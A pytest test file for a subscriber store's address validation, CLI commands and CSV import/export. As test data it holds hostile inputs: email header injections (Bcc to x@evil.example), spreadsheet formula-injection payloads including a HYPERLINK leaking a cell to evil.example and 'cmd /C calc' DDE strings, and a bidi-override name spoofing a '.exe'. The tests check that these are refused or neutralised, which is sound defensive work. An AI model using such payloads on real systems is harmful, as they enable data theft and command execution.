"""Subscriber store: address validation and normalisation, the CLI verbs, CSV import/export."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from policy_site.notify.addresses import (
    InvalidAddress,
    csv_cell,
    csv_value,
    mask,
    mask_text,
    normalise_address,
    normalise_name,
    parse_csv,
)
from policy_site.notify.store import SubscriberStore
from tests.support.library import small_library
from tests.support.pg import BACKENDS, rows
from tests.support.project import ROOT, SUBSCRIBED, Project

pytestmark = pytest.mark.long


@pytest.mark.parametrize("raw, expected", [
    ("Zoe@Example.ORG", "Zoe@example.org"),
    ("  someone@example.org \n", "someone@example.org"),
    ("first.last+tag@sub.example.co.uk", "first.last+tag@sub.example.co.uk"),
    ("x@bücher.example", "x@xn--bcher-kva.example"),
    ("x@BÜCHER.Example.", "x@xn--bcher-kva.example"),
])
def test_addresses_are_normalised(raw: str, expected: str) -> None:
    assert normalise_address(raw) == expected


@pytest.mark.parametrize("raw, fragment", [
    ("", "empty"),
    ("no-at-sign.example.org", "not an email address"),
    ("a b@example.org", "bare address"),
    ("Zoe <zoe@example.org>", "bare address"),
    ("a@b", "domain"),
    ("a@[127.0.0.1]", "domain"),
    ("a@-bad-.example", "domain"),
    ("a..b@example.org", "not valid before the @"),
    (".a@example.org", "not valid before the @"),
    ("zoë@example.org", "outside ASCII"),
    ("a@example.org\r\nBcc: x@evil.example", "line breaks"),
    ("a@exa\x00mple.org", "control"),
    ("a@example.123", "domain"),
    ("x" * 65 + "@example.org", "not valid before the @"),
])
def test_bad_addresses_are_refused(raw: str, fragment: str) -> None:
    with pytest.raises(InvalidAddress, match=fragment):
        normalise_address(raw)


@pytest.mark.parametrize("raw, expected", [
    ("x@faß.de", "x@xn--fa-hia.de"),  # IDNA 2008: ß is a letter of its own (IDNA 2003 made it fass.de)
    ("x@FAẞ.DE", "x@xn--fa-hia.de"),  # capital sharp s maps to ß, not to ss
    ("x@fass.de", "x@fass.de"),
    ("x@xn--fa-hia.de", "x@xn--fa-hia.de"),  # the ASCII form is kept as is
    ("x@σίσυφος.gr", "x@xn--kxa6ajbbmh.gr"),  # the final sigma is kept (IDNA 2003 made it σ)
    ("x@ΣΊΣΥΦΟΣ.GR", "x@xn--kxa6akbbkh.gr"),  # upper case is mapped to lower case (Σ → σ)
    ("x@ÖBB.AT", "x@xn--bb-eka.at"),
    ("x@bücher.example。", "x@xn--bcher-kva.example"),  # an ideographic full stop is a dot
    ("x@क्‍ष.example", "x@xn--11b2ezcw70k.example"),  # a joiner after a virama is allowed
])
def test_international_domains_follow_idna_2008(raw: str, expected: str) -> None:
    assert normalise_address(raw) == expected
    assert normalise_address(expected) == expected  # stable: the stored form normalises to itself


@pytest.mark.parametrize("raw", [
    "x@a\u200db.example",  # a zero-width joiner where IDNA 2008 does not allow one
    "x@😀.example",  # emoji are not allowed in IDNA 2008
    "x@☃.example",
    "x@xn--garbage.example",  # not a valid A-label
    "x@ab--c.xn--.example",
])
def test_invalid_international_domains_are_refused(raw: str) -> None:
    with pytest.raises(InvalidAddress, match="not a valid domain name"):
        normalise_address(raw)


def test_sharp_s_and_ss_are_two_subscribers(store_location: Path | str) -> None:
    store = SubscriberStore(store_location)
    sharp, _ = store.add("x@faß.de")
    plain, _ = store.add("x@fass.de")
    assert sharp.id != plain.id and sharp.email == "x@xn--fa-hia.de" and plain.email == "x@fass.de"
    assert store.get("X@FAẞ.de") == sharp and store.counts()["active"] == 2


def test_names_are_one_line() -> None:
    assert normalise_name("  Zoë   Ærøskøbing ") == "Zoë Ærøskøbing"
    assert normalise_name("山田太郎") == "山田太郎"
    for bad in ("Eve\r\nBcc: x@evil.example", "Eve\nX", "Eve\x07", "Eve\u2028X"):
        with pytest.raises(InvalidAddress, match="line breaks"):
            normalise_name(bad)
    with pytest.raises(InvalidAddress, match="longer"):
        normalise_name("x" * 201)
    for bad in ("Eve \u202egnp.exe", "Eve \u202aX\u202c", "Eve \u2067X\u2069", "\u2068Eve"):  # shown reordered
        with pytest.raises(InvalidAddress, match="bidirectional control characters"):
            normalise_name(bad)
    assert normalise_name("שלום Eve") == "שלום Eve"  # right-to-left text itself is fine


def test_masking() -> None:
    assert mask("zoe@example.org") == "z***@example.org"
    assert mask_text("550 <zoe@example.org>: no such user") == "550 <z***@example.org>: no such user"


def test_store_merges_case_insensitive_duplicates(store_location: Path | str) -> None:
    store = SubscriberStore(store_location)
    first, outcome = store.add("Zoe@Example.org", "Zoë")
    assert outcome == "added" and first.email == "Zoe@example.org"
    again, outcome = store.add("ZOE@EXAMPLE.ORG")
    assert outcome == "unchanged" and again.id == first.id and again.name == "Zoë"
    renamed, outcome = store.add("zoe@example.org", "Zoë Ærøskøbing")
    assert outcome == "updated" and renamed.name == "Zoë Ærøskøbing"
    assert store.counts() == {"active": 1, "removed": 0}
    store.remove(renamed)
    assert store.counts() == {"active": 0, "removed": 1}
    assert store.get("zoe@example.org").name == ""  # a removed subscriber keeps no name
    back, outcome = store.add("zoe@example.org", "Zoë")
    assert outcome == "reactivated" and back.status == "active"
    store.erase(back)
    assert store.get("zoe@example.org") is None
    if isinstance(store_location, Path):
        assert store_location.stat().st_mode & 0o077 == 0  # private to its owner


def test_parse_csv_reports_every_bad_row_with_its_line() -> None:
    text = ("email,name\n"
            "good@example.org,Good\n"
            "bad address,Bad\n"
            "\n"
            "\"quoted@example.org\",\"Multi\nline\"\n"
            "also-good@example.org,\n"
            "nope@,X\n")
    rows, problems = parse_csv(text, "list.csv")
    assert problems == [
        "list.csv:3: 'bad address' is not a bare address; write it like name@example.org",
        "list.csv:5: line breaks and control characters are not allowed in a name",
        "list.csv:8: 'nope@' is not an email address (like name@example.org)",
    ]


def test_parse_csv_without_header_and_with_extra_columns() -> None:
    rows, problems = parse_csv("a@example.org,Ann\nB@example.org\na@EXAMPLE.org,\n", "x.csv")
    assert not problems and [r[:3] for r in rows] == [("a@example.org", "Ann", None), ("B@example.org", "", None)]
    rows, problems = parse_csv("\ufeffName;x\n", "x.csv")
    assert problems == ["x.csv:1: the header row has no 'email' column"]
    rows, problems = parse_csv("subscribed,EMAIL,Name\n2026-01-02T03:04:05Z,c@example.org,Cee\n", "x.csv")
    assert not problems and [r[:3] for r in rows] == [("c@example.org", "Cee", "2026-01-02T03:04:05Z")]
    rows, problems = parse_csv("subscribed,EMAIL,Name\nyesterday,c@example.org,Cee\n", "x.csv")
    assert problems == ["x.csv:2: subscribed must be a time like 2026-01-31T12:00:00Z, not 'yesterday'"]


def _env(tmp_path: Path) -> dict[str, str]:
    return {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "db" / "subscribers.sqlite3")}


@pytest.fixture(params=BACKENDS)
def new_store(request: pytest.FixtureRequest, tmp_path: Path):
    """new_store(name) → the environment of a new, empty store: a SQLite file, then a PostgreSQL database."""
    def make(name: str = "subscribers") -> dict[str, str]:
        env = {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "db" / f"{name}.sqlite3")}
        if request.param == "postgresql":
            env["POLICY_DATABASE_URL"] = request.getfixturevalue("postgres_server").create_database()
        return env
    return make


def test_cli_add_remove_list_count(project: Project, tmp_path: Path, new_store) -> None:
    env = new_store()
    out = project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "Zoe@Example.org", "--name", "Zoë Ærøskøbing", env=env, check=True)
    assert "added Z***@example.org" in out.stdout and "Zoe@" not in out.stdout
    project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "yamada@example.jp", "--name", "山田太郎", env=env, check=True)
    project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ZOE@example.org", env=env, check=True)
    assert project.run("subscribers", "count", env=env, check=True).stdout.strip() == "2"
    listing = project.run("subscribers", "list", env=env, check=True).stdout
    assert "Zoe@example.org" in listing and "Zoë Ærøskøbing" in listing and "山田太郎" in listing
    removed = project.run("subscribers", "remove", "zoe@EXAMPLE.org", env=env, check=True)
    assert "removed Z***@example.org" in removed.stdout
    assert project.run("subscribers", "count", env=env).stdout.strip() == "1"
    assert project.run("subscribers", "count", "--all", env=env).stdout.strip() == "1 active, 1 removed"
    again = project.run("subscribers", "remove", "zoe@example.org", env=env)
    assert again.returncode == 1 and "is not subscribed" in again.stderr
    assert "Zoe@example.org" not in project.run("subscribers", "list", env=env).stdout
    assert "removed" in project.run("subscribers", "list", "--all", env=env).stdout


def test_cli_refuses_bad_input_cleanly(project: Project, tmp_path: Path) -> None:
    env = _env(tmp_path)
    for args in (("add", "not-an-address"), ("add", "a@example.org", "--name", "Eve\r\nBcc: x@evil.example"),
                 ("add", "a@example.org\r\nBcc: x@evil.example")):
        result = project.run("subscribers", *args, env=env)
        assert result.returncode == 1, result
        assert "Traceback" not in result.stderr and result.stderr.startswith("policy subscribers: error:")
    assert project.run("subscribers", "count", env=env).stdout.strip() == "0"


def test_cli_import_all_or_nothing(project: Project, tmp_path: Path, new_store) -> None:
    env = new_store()
    bad = tmp_path / "bad.csv"
    bad.write_text("email,name\nok@example.org,Ok\nbroken,X\nalso-ok@example.org,\nx@y,\n", encoding="utf-8")
    result = project.run("subscribers", "import", str(bad), env=env)
    assert result.returncode == 1
    assert f"{bad}:3: 'broken' is not an email address" in result.stderr
    assert f"{bad}:5: 'y' is not a valid domain name" in result.stderr
    assert "2 bad rows; nothing was imported." in result.stderr
    assert project.run("subscribers", "count", env=env).stdout.strip() == "0"

    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes("email,name\nok@example.org,Zo\xeb\n".encode("latin-1"))
    result = project.run("subscribers", "import", str(latin1), env=env)
    assert result.returncode == 1 and f"{latin1}:2: not UTF-8" in result.stderr
    assert "nothing was imported" in result.stderr


def test_cli_import_export_round_trip(project: Project, tmp_path: Path, new_store) -> None:
    env = new_store()
    good = tmp_path / "good.csv"
    good.write_text("\ufeffEmail,Name\nann@example.org,Ann\nZOË@bücher.example,Zoë\n".replace("ZOË", "zoe") +
                    "ANN@example.org,\nbob@example.org,山田太郎\n", encoding="utf-8")
    result = project.run("subscribers", "import", str(good), env=env, check=True)
    assert "3 added" in result.stdout
    project.run("subscribers", "remove", "bob@example.org", env=env, check=True)
    result = project.run("subscribers", "import", str(good), env=env, check=True)
    assert "0 added" in result.stdout and "1 previously removed (not re-subscribed)" in result.stdout
    exported = project.run("subscribers", "export", env=env, check=True).stdout
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [(r["email"], r["name"]) for r in rows] == [("ann@example.org", "Ann"),
                                                      ("zoe@xn--bcher-kva.example", "Zoë")]

    # what export writes, import reads back into an empty database
    dump = tmp_path / "dump.csv"
    project.run("subscribers", "export", "--output", str(dump), env=env, check=True)
    other = new_store("other")
    project.run("subscribers", "import", str(dump), env=other, check=True)
    assert project.run("subscribers", "export", env=other, check=True).stdout.splitlines()[1:] == \
        exported.splitlines()[1:]


def test_cli_add_with_preferences_list_and_export(tmp_path: Path) -> None:
    """--documents, --changes, --language: checked against what the project offers; those not given are kept."""
    library = small_library(tmp_path / "library")
    env = _env(tmp_path)

    def listed(address: str) -> list[str]:
        lines = library.run("subscribers", "list", env=env, check=True).stdout.splitlines()
        assert lines[0].split() == ["address", "subscribed", "documents", "changes", "language", "confirmed", "name"]
        return next(line.split() for line in lines[1:] if line.startswith(address))

    library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", "--name", "Ann", "--documents", "terms,privacy",
                "--changes", "all", "--language", "de", env=env, check=True)
    assert listed("ann@")[2:] == ["privacy,terms", "all", "de", "-", "Ann"]
    library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", "--changes", "material", env=env, check=True)
    assert listed("ann@")[2:] == ["privacy,terms", "material", "de", "-", "Ann"]
    library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", "--documents", "all", "--language", "", env=env, check=True)
    assert listed("ann@")[2:] == ["*", "material", "-", "-", "Ann"]
    library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "bob@example.org", env=env, check=True)
    assert listed("bob@")[2:] == ["*", "material", "-", "-"]

    refused = {("--documents", "privacy,cookies"): "--documents takes 'all' or document ids separated by commas "
                                                    "(documents: privacy, terms), not 'privacy,cookies'",
               ("--documents", ","): "--documents takes 'all'",
               ("--language", "fr"): "--language fr: no document is translated into it (translations: de)"}
    for args, message in refused.items():
        result = library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "bob@example.org", *args, env=env)
        assert result.returncode == 1 and message in result.stderr and "Traceback" not in result.stderr, result
    bad_kind = library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "bob@example.org", "--changes", "some", env=env)
    assert bad_kind.returncode == 2 and "invalid choice: 'some'" in bad_kind.stderr
    assert listed("bob@")[2:] == ["*", "material", "-", "-"]

    library.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", "--documents", "terms", "--changes", "all", "--language",
                "de", env=env, check=True)
    exported = library.run("subscribers", "export", env=env, check=True).stdout
    table = list(csv.DictReader(io.StringIO(exported)))
    assert [(r["email"], r["documents"], r["changes"], r["language"], r["confirmed"]) for r in table] == [
        ("ann@example.org", "terms", "all", "de", ""), ("bob@example.org", "*", "material", "", "")]
    dump = tmp_path / "dump.csv"
    dump.write_text(exported, encoding="utf-8")
    other = {"POLICY_SUBSCRIBERS_DB": str(tmp_path / "other.sqlite3")}
    library.run("subscribers", "import", str(dump), env=other, check=True)
    assert library.run("subscribers", "export", env=other, check=True).stdout == exported


FORMULAS = {"eq@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"click")', "plus@example.org": "+cmd|' /C calc'!A0",
            "minus@example.org": "-1+1", "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
            "quoted@example.org": "'=already quoted", "quote@example.org": "'plain",
            "-dash@example.org": "Dash", "=x@example.org": "+x", "ok@example.org": "Plain Name"}


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'=1", "''=1"), ("''-1", "'''-1"), ("'text", "'text"), ("text", "text"), ("", ""), ("'", "'"),
    ("a=1", "a=1"), ("2026-01-02T03:04:05Z", "2026-01-02T03:04:05Z"),
])
def test_csv_cells_are_neutralised_and_read_back(value: str, cell: str) -> None:
    assert csv_cell(value) == cell and csv_value(cell) == value


# the names and addresses that start like an option: given to `subscribers add` on its command line
ADDED_BY_THE_CLI = ("minus@example.org", "-dash@example.org", "=x@example.org")


def test_export_neutralises_formulas_and_import_reads_them_back(project: Project, tmp_path: Path, new_store) -> None:
    env = new_store()
    for address, name in FORMULAS.items():
        if address in ADDED_BY_THE_CLI:
            project.run("subscribers", "add", "--subscribed", SUBSCRIBED, f"--name={name}", "--", address, env=env,
                        check=True)
    store = SubscriberStore(env.get("POLICY_DATABASE_URL") or env["POLICY_SUBSCRIBERS_DB"])  # the rest: the same
    try:  # store call as the command makes, in this process
        for address, name in FORMULAS.items():
            if address not in ADDED_BY_THE_CLI:
                store.add(address, name, subscribed=SUBSCRIBED)
    finally:
        store.close()
    exported = project.run("subscribers", "export", env=env, check=True).stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in exported and "'-dash@example.org" in exported and "'+x" in exported
    assert "''=already quoted" in exported and ",'plain," in exported

    dump = tmp_path / "dump.csv"
    project.run("subscribers", "export", "-o", str(dump), env=env, check=True)
    other = new_store("other")
    project.run("subscribers", "import", str(dump), env=other, check=True)
    stored = dict(rows(other, "SELECT email, name FROM subscribers"))
    assert stored == FORMULAS  # exactly the names given, the added quotes removed
    assert project.run("subscribers", "export", env=other, check=True).stdout == exported


def test_export_to_a_file_is_private_and_atomic(project: Project, tmp_path: Path) -> None:
    env = _env(tmp_path)
    project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", "--name", "Ann", env=env, check=True)
    target = tmp_path / "out" / "subscribers.csv"
    target.parent.mkdir()
    target.write_text("old contents\n")
    target.chmod(0o644)
    result = project.run("subscribers", "export", "-o", str(target), env=env, check=True)
    assert "exported 1 to" in result.stderr
    assert target.stat().st_mode & 0o777 == 0o600
    assert target.read_text().splitlines()[1].startswith("ann@example.org,Ann,")
    assert [p.name for p in target.parent.iterdir()] == ["subscribers.csv"]  # no temporary file left
    missing = project.run("subscribers", "export", "-o", str(tmp_path / "nowhere" / "x.csv"), env=env)
    assert missing.returncode == 1 and "Traceback" not in missing.stderr
    assert missing.stderr.strip() == (f"policy subscribers: error: cannot write the export: the folder does not exist "
                                      f"({tmp_path / 'nowhere' / 'x.csv'}); create it, or choose another place")


def test_database_default_is_outside_the_site_and_git_ignored(project: Project) -> None:
    project.init_git()
    ignore = (ROOT / ".gitignore").read_text()
    assert "/.cache/" in ignore
    (project.path / ".gitignore").write_text(ignore)
    result = project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org", check=True)
    assert "not git-ignored" not in result.stderr
    database = project.path / ".cache" / "subscribers.sqlite3"
    assert database.exists()
    assert ".cache" not in project.git("status", "--porcelain")
    with sqlite3.connect(database) as conn:
        assert conn.execute("SELECT COUNT(*) FROM subscribers").fetchone()[0] == 1


def test_database_that_git_would_commit_is_flagged(project: Project) -> None:
    project.init_git()
    result = project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org",
                         env={"POLICY_SUBSCRIBERS_DB": str(project.path / "data" / "subs.sqlite3")})
    assert result.returncode == 0
    assert "subs.sqlite3 holds subscriber addresses and is not git-ignored" in result.stderr


def test_database_inside_site_is_refused(project: Project) -> None:
    result = project.run("subscribers", "add", "--subscribed", SUBSCRIBED, "ann@example.org",
                         env={"POLICY_SUBSCRIBERS_DB": str(project.path / "site" / "subs.sqlite3")})
    assert result.returncode == 1 and "published" in result.stderr


def test_every_action_has_help(project: Project) -> None:
    for action in ("add", "remove", "list", "count", "import", "export"):
        result = project.run("subscribers", action, "--help")
        assert result.returncode == 0 and "usage: policy subscribers " + action in result.stdout
    assert project.run("notify", "--help").returncode == 0
